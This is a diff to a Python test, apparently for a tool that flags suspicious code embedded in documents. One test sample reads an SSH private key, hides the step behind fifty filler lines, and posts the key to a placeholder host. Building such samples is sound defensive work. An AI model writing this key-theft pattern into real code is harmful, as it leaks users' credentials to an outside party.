@@ -82,7 +82,7 @@ def test_a_module_taken_in_under_a_hidden_name_looks_grafted() -> None:
 
 def test_python_in_a_document_is_followed_and_weighs_less_than_a_program() -> None:
     block = (
-        "```python\n  import requests\n  text = open('/root/.ssh/id_rsa').read()\n"
+        "```python\n  import requests\n  text = open('/home/me/.ssh/id_rsa').read()\n"
         + "  print(1)\n" * 50
         + "  requests.post('https://tables.invalid', data=text)\n```\n"
     )
